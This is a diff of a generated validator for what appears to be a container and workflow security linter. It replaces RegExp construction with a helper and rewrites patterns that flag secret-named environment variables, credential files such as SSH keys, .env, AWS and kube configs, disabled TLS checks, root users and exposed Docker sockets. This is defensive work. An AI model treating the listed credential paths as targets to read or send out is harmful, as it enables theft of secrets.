@@ -24018,7 +30915,7 @@ function validate37(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate37.evaluated = { "dynamicProps": false, "dynamicItems": false };
 var v18 = validate38;
-var pattern14 = new RegExp("^no-new-privileges=(1|t|T|true|TRUE|True)$", "u");
+var pattern14 = func0("^no-new-privileges=(1|t|T|true|TRUE|True)$", "u");
 function validate38(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -24223,7 +31120,7 @@ function validate40(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate40.evaluated = { "props": { "ports": true }, "dynamicProps": false, "dynamicItems": false };
 var v21 = validate41;
-var pattern15 = new RegExp("^([0-9]|[1-9][0-9]|[1-9][0-9][0-9]|10[01][0-9]|102[0-3])(-|$)", "u");
+var pattern15 = func0("^([0-9]|[1-9][0-9]|[1-9][0-9][0-9]|10[01][0-9]|102[0-3])(-|$)", "u");
 function validate41(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -24336,7 +31233,7 @@ function validate42(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate42.evaluated = { "props": { "privileged": true }, "dynamicProps": false, "dynamicItems": false };
 var v23 = validate43;
-var pattern16 = new RegExp("^(no|false|on-failure:[1-5])$", "u");
+var pattern16 = func0("^(no|false|on-failure:[1-5])$", "u");
 function validate43(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -24405,7 +31302,7 @@ function validate44(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate44.evaluated = { "props": { "read_only": true }, "dynamicProps": false, "dynamicItems": false };
 var v25 = validate45;
-var pattern17 = new RegExp("^(root|0)(:.*)?$", "u");
+var pattern17 = func0("^(root|0)(:.*)?$", "u");
 function validate45(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -24537,8 +31434,8 @@ function validate46(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate46.evaluated = { "props": { "origin": true }, "dynamicProps": false, "dynamicItems": false };
 var v27 = validate47;
-var pattern18 = new RegExp("^(?=[A-Za-z0-9_]*$)(?![A-Za-z0-9_]*(?:^|_)(?:PUBLIC|public|Public)(?:_|$))(?![A-Za-z0-9_]*_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode)$)(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$", "u");
-var pattern19 = new RegExp("^[^$]+$", "u");
+var pattern18 = func0("^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode))", "u");
+var pattern19 = func0("^[^$]+$", "u");
 function validate47(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -24582,7 +31479,7 @@ function validate47(data, { instancePath = "", parentData, parentDataProperty, r
             }
             var valid2 = _errs3 === errors;
             if (valid2) {
-              const err2 = { instancePath: instancePath + "/environment/" + key0.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/environment/patternProperties/%5E(%3F%3D%5BA-Za-z0-9_%5D*%24)(%3F!%5BA-Za-z0-9_%5D*(%3F%3A%5E%7C_)(%3F%3APUBLIC%7Cpublic%7CPublic)(%3F%3A_%7C%24))(%3F!%5BA-Za-z0-9_%5D*_(%3F%3AFILE%7CPATH%7CDIR%7CURL%7CURI%7CHOST%7CPORT%7CUSER%7CUSERNAME%7CNAME%7CID%7CENABLED%7CTYPE%7CMETHOD%7CPROVIDER%7CMODE%7CLENGTH%7CTTL%7CEXPIRY%7Cfile%7Cpath%7Cdir%7Curl%7Curi%7Chost%7Cport%7Cuser%7Cusername%7Cname%7Cid%7Cenabled%7Ctype%7Cmethod%7Cprovider%7Cmode)%24)(%3F%3A%5BA-Za-z0-9%5D%2B_)*(%3F%3APASSWORD%7CPASSWD%7CPWORD%7CPASS%7CSECRET%7CTOKEN%7CAPIKEY%7CKEY%7CAUTH%7CCREDENTIAL%7CCREDENTIALS%7Cpassword%7Cpasswd%7Cpword%7Cpass%7Csecret%7Ctoken%7Capikey%7Ckey%7Cauth%7Ccredential%7Ccredentials)(%3F%3A_%5BA-Za-z0-9_%5D*)%3F%24/not", keyword: "not", params: {}, message: "must NOT be valid" };
+              const err2 = { instancePath: instancePath + "/environment/" + key0.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/environment/patternProperties/%5E(%3F%3A%5BA-Za-z0-9%5D%2B_)*(%3F%3APASSWORD%7CPASSWD%7CPWORD%7CPASS%7CSECRET%7CTOKEN%7CAPIKEY%7CKEY%7CAUTH%7CCREDENTIAL%7CCREDENTIALS%7Cpassword%7Cpasswd%7Cpword%7Cpass%7Csecret%7Ctoken%7Capikey%7Ckey%7Cauth%7Ccredential%7Ccredentials)(%3F%3A_%5BA-Za-z0-9_%5D*)%3F%24(%3F%3C!(%3F%3A%5E%7C_)(%3F%3APUBLIC%7Cpublic%7CPublic)(%3F%3A_%5BA-Za-z0-9_%5D*)%3F)(%3F%3C!_(%3F%3AFILE%7CPATH%7CDIR%7CURL%7CURI%7CHOST%7CPORT%7CUSER%7CUSERNAME%7CNAME%7CID%7CENABLED%7CTYPE%7CMETHOD%7CPROVIDER%7CMODE%7CLENGTH%7CTTL%7CEXPIRY%7Cfile%7Cpath%7Cdir%7Curl%7Curi%7Chost%7Cport%7Cuser%7Cusername%7Cname%7Cid%7Cenabled%7Ctype%7Cmethod%7Cprovider%7Cmode))/not", keyword: "not", params: {}, message: "must NOT be valid" };
               if (vErrors === null) {
                 vErrors = [err2];
               } else {
@@ -24610,8 +31507,8 @@ function validate47(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate47.evaluated = { "props": { "environment": true }, "dynamicProps": false, "dynamicItems": false };
 var v28 = validate48;
-var pattern20 = new RegExp("^/etc/(localtime|timezone)$", "u");
-var pattern22 = new RegExp("^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$", "u");
+var pattern20 = func0("^/etc/(localtime|timezone)$", "u");
+var pattern22 = func0("^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$", "u");
 function validate48(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -24812,12 +31709,12 @@ function validate48(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate48.evaluated = { "props": { "volumes": true }, "dynamicProps": false, "dynamicItems": false };
 var v29 = validate49;
-var pattern23 = new RegExp("^net\\.ipv4\\.ip_forward$", "u");
-var pattern24 = new RegExp("^net\\.ipv6\\.conf\\.[a-z0-9_.-]+\\.forwarding$", "u");
-var pattern25 = new RegExp("^net\\.ipv4\\.conf\\.[a-z0-9_.-]+\\.(route_localnet|accept_source_route|accept_redirects)$", "u");
-var pattern26 = new RegExp("^net\\.ipv6\\.conf\\.[a-z0-9_.-]+\\.(accept_source_route|accept_redirects)$", "u");
-var pattern27 = new RegExp("^net\\.ipv4\\.conf\\.[a-z0-9_.-]+\\.rp_filter$", "u");
-var pattern28 = new RegExp("^net\\.ipv4\\.ip_unprivileged_port_start$", "u");
+var pattern23 = func0("^net\\.ipv4\\.ip_forward$", "u");
+var pattern24 = func0("^net\\.ipv6\\.conf\\.[a-z0-9_.-]+\\.forwarding$", "u");
+var pattern25 = func0("^net\\.ipv4\\.conf\\.[a-z0-9_.-]+\\.(route_localnet|accept_source_route|accept_redirects)$", "u");
+var pattern26 = func0("^net\\.ipv6\\.conf\\.[a-z0-9_.-]+\\.(accept_source_route|accept_redirects)$", "u");
+var pattern27 = func0("^net\\.ipv4\\.conf\\.[a-z0-9_.-]+\\.rp_filter$", "u");
+var pattern28 = func0("^net\\.ipv4\\.ip_unprivileged_port_start$", "u");
 function validate49(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -25051,7 +31948,7 @@ function validate49(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate49.evaluated = { "props": { "sysctls": true }, "dynamicProps": false, "dynamicItems": false };
 var v30 = validate50;
-var pattern29 = new RegExp("[:,](exec|suid)(,|$)", "u");
+var pattern29 = func0("[:,](exec|suid)(,|$)", "u");
 function validate50(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -25198,7 +32095,7 @@ function validate52(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate52.evaluated = { "dynamicProps": false, "dynamicItems": false };
 var v33 = validate53;
-var pattern30 = new RegExp("^https?://", "u");
+var pattern30 = func0("^https?://", "u");
 function validate53(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -25342,7 +32239,7 @@ function validate53(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate53.evaluated = { "props": { "instructions": true }, "dynamicProps": false, "dynamicItems": false };
 var v34 = validate54;
-var pattern31 = new RegExp("(^|/)(\\.env(\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\.pypirc|\\.netrc|\\.git-credentials|\\.htpasswd|credentials(\\.json)?)$|(^|/)[^/]+\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\.pem$|(^|/)(?=[^/]*service-account)[^/]*\\.json$|(^|/)\\.(aws|ssh|gnupg)(/|$)|(^|/)\\.docker/config\\.json$|(^|/)\\.kube/config$", "u");
+var pattern31 = func0("(^|/)(\\.env(\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\.pypirc|\\.netrc|\\.git-credentials|\\.htpasswd|credentials(\\.json)?)$|(^|/)[^/]+\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\.pem$|(^|/)[^/]*service-account[^/]*\\.json$|(^|/)\\.(aws|ssh|gnupg)(/|$)|(^|/)\\.docker/config\\.json$|(^|/)\\.kube/config$", "u");
 function validate54(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -25457,7 +32354,7 @@ function validate54(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate54.evaluated = { "props": { "instructions": true }, "dynamicProps": false, "dynamicItems": false };
 var v35 = validate55;
-var pattern32 = new RegExp("^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$", "u");
+var pattern32 = func0("^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$", "u");
 function validate55(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -25600,7 +32497,7 @@ function validate56(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate56.evaluated = { "props": { "isFinal": true }, "dynamicProps": false, "dynamicItems": false };
 var v37 = validate57;
-var pattern33 = new RegExp("^\\s*(root|0+)(:.*|\\s*)$", "u");
+var pattern33 = func0("^\\s*(root|0+)(:.*|\\s*)$", "u");
 function validate57(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -25771,7 +32668,7 @@ function validate58(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate58.evaluated = { "props": { "instructions": true }, "dynamicProps": false, "dynamicItems": false };
 var v39 = validate59;
-var pattern34 = new RegExp("^(?=[A-Za-z0-9_]*(=|$))(?![A-Za-z0-9_]*(^|_)(PUBLIC|public|Public)(_|=|$))(?![A-Za-z0-9_]*_(FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type)(=|$))([A-Za-z0-9]+_)*(PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(_[A-Za-z0-9_]*)?(=|$)", "u");
+var pattern34 = func0("^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type))(?:=|$)", "u");
 function validate59(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -25886,8 +32783,8 @@ function validate59(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate59.evaluated = { "props": { "instructions": true }, "dynamicProps": false, "dynamicItems": false };
 var v40 = validate60;
-var pattern35 = new RegExp("^22(/tcp)?$", "u");
-var pattern36 = new RegExp("^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$", "u");
+var pattern35 = func0("^22(/tcp)?$", "u");
+var pattern36 = func0("^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$", "u");
 function validate60(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -26148,7 +33045,7 @@ function validate63(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate63.evaluated = { "props": { "isLatest": true }, "dynamicProps": false, "dynamicItems": false };
 var v44 = validate64;
-var pattern37 = new RegExp("^sha256:[0-9a-f]{64}$", "u");
+var pattern37 = func0("^sha256:[0-9a-f]{64}$", "u");
 function validate64(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -26301,7 +33198,7 @@ function validate66(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate66.evaluated = { "props": { "origin": true, "name": true, "args": true }, "dynamicProps": false, "dynamicItems": false };
 var v47 = validate67;
-var pattern38 = new RegExp("^--no-install-recommends$|Install-Recommends=(false|0)$", "u");
+var pattern38 = func0("^--no-install-recommends$|Install-Recommends=(false|0)$", "u");
 function validate67(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -26387,8 +33284,8 @@ function validate67(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate67.evaluated = { "props": { "args": true }, "dynamicProps": false, "dynamicItems": false };
 var v48 = validate68;
-var pattern39 = new RegExp("^(-[a-xzA-Z]*y[a-zA-Z]*|--yes|--assume-yes|-qq)$", "u");
-var pattern41 = new RegExp("^(-n|--non-interactive|-y|--no-confirm)$", "u");
+var pattern39 = func0("^(-[a-xzA-Z]*y[a-zA-Z]*|--yes|--assume-yes|-qq)$", "u");
+var pattern41 = func0("^(-n|--non-interactive|-y|--no-confirm)$", "u");
 function validate68(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -26921,11 +33818,11 @@ function validate68(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate68.evaluated = { "dynamicProps": true, "dynamicItems": false };
 var v49 = validate69;
-var pattern42 = new RegExp("^[a-z0-9][a-z0-9.+-]*$", "u");
-var pattern43 = new RegExp("^[a-z0-9][a-z0-9.+_-]*$", "u");
-var pattern44 = new RegExp("\\.(txt|in|whl|gz|zip|toml|cfg|py)$", "u");
-var pattern45 = new RegExp("^[A-Za-z0-9][A-Za-z0-9._-]*(\\[[A-Za-z0-9,._-]+\\])?$", "u");
-var pattern46 = new RegExp("^(@[a-z0-9][a-z0-9._~-]*/)?[a-z0-9][a-z0-9._~-]*$", "u");
+var pattern42 = func0("^[a-z0-9][a-z0-9.+-]*$", "u");
+var pattern43 = func0("^[a-z0-9][a-z0-9.+_-]*$", "u");
+var pattern44 = func0("\\.(txt|in|whl|gz|zip|toml|cfg|py)$", "u");
+var pattern45 = func0("^[A-Za-z0-9][A-Za-z0-9._-]*(\\[[A-Za-z0-9,._-]+\\])?$", "u");
+var pattern46 = func0("^(@[a-z0-9][a-z0-9._~-]*/)?[a-z0-9][a-z0-9._~-]*$", "u");
 function validate69(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -27841,7 +34738,7 @@ function validate71(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate71.evaluated = { "props": { "sudo": true, "name": true }, "dynamicProps": false, "dynamicItems": false };
 var v52 = validate72;
-var pattern47 = new RegExp("^(https?://|git@|[a-z]+://)|\\.(tar|tar\\.gz|tgz|tar\\.bz2|tbz2?|tar\\.xz|txz|tar\\.zst)$", "u");
+var pattern47 = func0("^(https?://|git@|[a-z]+://)|\\.(tar|tar\\.gz|tgz|tar\\.bz2|tbz2?|tar\\.xz|txz|tar\\.zst)$", "u");
 function validate72(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -27964,8 +34861,8 @@ function validate72(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate72.evaluated = { "props": { "instructions": true }, "dynamicProps": false, "dynamicItems": false };
 var v53 = validate73;
-var pattern48 = new RegExp("^/var/lib/apt/lists", "u");
-var pattern49 = new RegExp("target=/var/(lib|cache)/apt", "u");
+var pattern48 = func0("^/var/lib/apt/lists", "u");
+var pattern49 = func0("target=/var/(lib|cache)/apt", "u");
 function validate73(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -28840,7 +35737,7 @@ function validate76(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate76.evaluated = { "props": { "instructions": true }, "dynamicProps": false, "dynamicItems": false };
 var v57 = validate77;
-var pattern50 = new RegExp("type=cache", "u");
+var pattern50 = func0("type=cache", "u");
 function validate77(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -29421,7 +36318,7 @@ function validate78(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate78.evaluated = { "props": { "instructions": true }, "dynamicProps": false, "dynamicItems": false };
 var v59 = validate79;
-var pattern51 = new RegExp("^(/|\\$|[A-Za-z]:[\\\\/])", "u");
+var pattern51 = func0("^(/|\\$|[A-Za-z]:[\\\\/])", "u");
 function validate79(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -29654,7 +36551,7 @@ function validate82(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate82.evaluated = { "props": { "origin": true }, "dynamicProps": false, "dynamicItems": false };
 var v63 = validate83;
-var pattern52 = new RegExp("^(--host=|-H)?tcp://[^\\s/:]*(:2375)?/?$", "u");
+var pattern52 = func0("^(--host=|-H)?tcp://[^\\s/:]*(:2375)?/?$", "u");
 function validate83(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -30073,7 +36970,7 @@ function validate86(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate86.evaluated = { "props": { "origin": true, "docker": true }, "dynamicProps": false, "dynamicItems": false };
 var v67 = validate87;
-var pattern56 = new RegExp("\\$", "u");
+var pattern56 = func0("\\$", "u");
 function validate87(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -30160,7 +37057,7 @@ function validate88(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate88.evaluated = { "props": { "origin": true }, "dynamicProps": false, "dynamicItems": false };
 var v69 = validate89;
-var pattern57 = new RegExp("\\$\\{\\{", "u");
+var pattern57 = func0("\\$\\{\\{", "u");
 function validate89(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -30227,8 +37124,8 @@ function validate90(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate90.evaluated = { "props": { "origin": true }, "dynamicProps": false, "dynamicItems": false };
 var v71 = validate91;
-var pattern58 = new RegExp("^docker/setup-docker-action(@|$)", "u");
-var pattern59 = new RegExp("^tcp://[^\\s/:]*(:2375)?/?$", "u");
+var pattern58 = func0("^docker/setup-docker-action(@|$)", "u");
+var pattern59 = func0("^tcp://[^\\s/:]*(:2375)?/?$", "u");
 function validate91(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -30365,7 +37262,7 @@ function validate91(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate91.evaluated = { "dynamicProps": true, "dynamicItems": false };
 var v72 = validate92;
-var pattern60 = new RegExp("^docker/build-push-action(@|$)", "u");
+var pattern60 = func0("^docker/build-push-action(@|$)", "u");
 function validate92(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -30564,7 +37461,7 @@ function validate94(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate94.evaluated = { "props": { "permissions": true }, "dynamicProps": false, "dynamicItems": false };
 var v75 = validate95;
-var pattern61 = new RegExp("^docker/login-action(@|$)", "u");
+var pattern61 = func0("^docker/login-action(@|$)", "u");
 function validate95(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -30605,7 +37502,7 @@ function validate95(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate95.evaluated = { "props": { "uses": true }, "dynamicProps": false, "dynamicItems": false };
 var v76 = validate96;
-var pattern62 = new RegExp("^$|\\$\\{\\{", "u");
+var pattern62 = func0("^$|\\$\\{\\{", "u");
 function validate96(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -30643,7 +37540,7 @@ function validate96(data, { instancePath = "", parentData, parentDataProperty, r
 validate96.evaluated = { "props": { "with": true }, "dynamicProps": false, "dynamicItems": false };
 var v77 = validate97;
 var schema110 = { "not": { "properties": { "on": { "properties": { "events": { "const": ["workflow_call"] } } } } } };
-var func0 = require_equal().default;
+var func3 = require_equal().default;
 function validate97(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -30661,7 +37558,7 @@ function validate97(data, { instancePath = "", parentData, parentDataProperty, r
       let data0 = data.on;
       if (data0 && typeof data0 == "object" && !Array.isArray(data0)) {
         if (data0.events !== void 0) {
-          if (!func0(data0.events, schema110.not.properties.on.properties.events.const)) {
+          if (!func3(data0.events, schema110.not.properties.on.properties.events.const)) {
             const err0 = {};
             if (vErrors === null) {
               vErrors = [err0];
@@ -30764,7 +37661,7 @@ function validate99(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate99.evaluated = { "props": { "uses": true }, "dynamicProps": false, "dynamicItems": false };
 var v80 = validate100;
-var pattern64 = new RegExp("\\$\\{\\{\\s*(secrets\\.|github\\.token)", "u");
+var pattern64 = func0("\\$\\{\\{\\s*(secrets\\.|github\\.token)", "u");
 function validate100(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -31294,8 +38191,8 @@ function validate104(data, { instancePath = "", parentData, parentDataProperty, 
 }
 validate104.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
 var v85 = validate105;
-var pattern65 = new RegExp("^[a-z0-9]+(-[a-z0-9]+)*$", "u");
-var func2 = require_ucs2length().default;
+var func68 = require_ucs2length().default;
+var pattern65 = func0("^[a-z0-9]+(-[a-z0-9]+)*$", "u");
 function validate105(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   ;
   let vErrors = null;
@@ -31380,7 +38277,7 @@ function validate105(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.title !== void 0) {
       let data1 = data.title;
       if (typeof data1 === "string") {
-        if (func2(data1) < 1) {
+        if (func68(data1) < 1) {
           const err7 = { instancePath: instancePath + "/title", schemaPath: "#/properties/title/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err7];
@@ -31402,7 +38299,7 @@ function validate105(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.description !== void 0) {
       let data2 = data.description;
       if (typeof data2 === "string") {
-        if (func2(data2) < 1) {
+        if (func68(data2) < 1) {
           const err9 = { instancePath: instancePath + "/description", schemaPath: "#/properties/description/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err9];
@@ -31424,7 +38321,7 @@ function validate105(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.version !== void 0) {
       let data3 = data.version;
       if (typeof data3 === "string") {
-        if (func2(data3) < 1) {
+        if (func68(data3) < 1) {
           const err11 = { instancePath: instancePath + "/version", schemaPath: "#/properties/version/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err11];
@@ -31483,12 +38380,12 @@ function validate105(data, { instancePath = "", parentData, parentDataProperty, 
 validate105.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
 var v86 = validate106;
 var schema119 = { "$id": "https://containment.dev/schemas/rule.json", "type": "object", "additionalProperties": false, "required": ["id", "title", "severity", "subject", "schema", "message", "rationale", "remediation", "references", "tests"], "properties": { "id": { "type": "string", "pattern": "^[a-z0-9]+(-[a-z0-9]+)*$" }, "title": { "type": "string", "minLength": 1 }, "severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "subject": { "enum": ["container", "image", "command", "dockerfile", "dockerfile.stage", "compose", "workflow", "workflow.job", "workflow.step", "action-ref"] }, "when": { "type": "object" }, "schema": { "type": "object" }, "message": { "type": "string", "minLength": 1 }, "rationale": { "type": "string", "minLength": 1 }, "remediation": { "type": "string", "minLength": 1 }, "references": { "type": "array", "minItems": 1, "items": { "type": "object", "minProperties": 1, "maxProperties": 1, "additionalProperties": false, "properties": { "cis-docker": { "type": "string", "pattern": "^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$" }, "owasp-docker": { "type": "string", "pattern": "^RULE #\\d+[a-z]?$" }, "docker-build-check": { "type": "string", "pattern": "^[A-Za-z]+$" }, "url": { "type": "string", "pattern": "^https://" } } } }, "params": { "type": "object", "propertyNames": { "pattern": "^[A-Za-z][A-Za-z0-9]*$" }, "additionalProperties": { "type": "object", "additionalProperties": false, "required": ["description", "schema", "default"], "properties": { "description": { "type": "string", "minLength": 1 }, "schema": { "type": "object" }, "default": {} } } }, "tests": { "type": "array", "minItems": 2, "items": { "type": "object", "additionalProperties": false, "required": ["file", "content", "expect"], "properties": { "file": { "type": "string", "minLength": 1 }, "content": { "type": "string" }, "files": { "type": "object", "additionalProperties": { "type": "string" } }, "expect": { "type": "array", "items": { "type": "object", "additionalProperties": false, "required": ["line", "column"], "properties": { "line": { "type": "integer", "minimum": 1 }, "column": { "type": "integer", "minimum": 1 }, "endLine": { "type": "integer", "minimum": 1 }, "endColumn": { "type": "integer", "minimum": 1 } } } } } } } } };
-var func5 = Object.prototype.hasOwnProperty;
-var pattern67 = new RegExp("^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$", "u");
